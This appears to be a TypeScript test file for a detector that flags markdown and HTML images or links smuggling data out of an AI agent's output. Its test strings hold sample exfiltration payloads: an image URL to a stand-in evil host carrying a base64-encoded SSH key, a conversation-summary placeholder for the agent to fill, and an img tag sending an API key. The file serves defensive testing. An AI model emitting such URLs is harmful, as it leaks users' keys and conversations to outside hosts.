// Markdown and HTML images or links that carry data in their URL.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { urlDataWeight } from '../../../src/detect/output/exfil.ts';
import { flagged, strongRules } from './helpers.ts';

describe('markdown exfiltration', () => {
  it('flags an image whose query carries encoded data', () => {
    const payload = Buffer.from('ssh-rsa AAAAB3NzaC1yc2E user@laptop').toString('base64');
    assert.ok(flagged(`Here is your chart: ![chart](https://img.evil.example/p.png?d=${payload})`));
  });

  it('flags an image URL with a placeholder for the agent to fill', () => {
    assert.ok(flagged('![x](https://collect.example/log?q={conversation_summary})'));
    assert.ok(
      strongRules('<img src="https://t.example/a.gif?k=$API_KEY">').includes('output.markdown_exfiltration'),
    );
  });

  it('leaves plain images, badges and ordinary links alone', () => {
    assert.equal(flagged('![logo](https://example.com/logo.png)'), false);
    assert.equal(flagged('[docs](https://example.com/docs?page=2&lang=en)'), false);
    assert.equal(
      flagged(
        '![npm](https://img.shields.io/npm/v/pkg?color=brightgreen&logo=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgo)',
      ),
      false,
    );
    assert.equal(urlDataWeight('https://example.com/search?q=weather+berlin'), 0);
  });
});
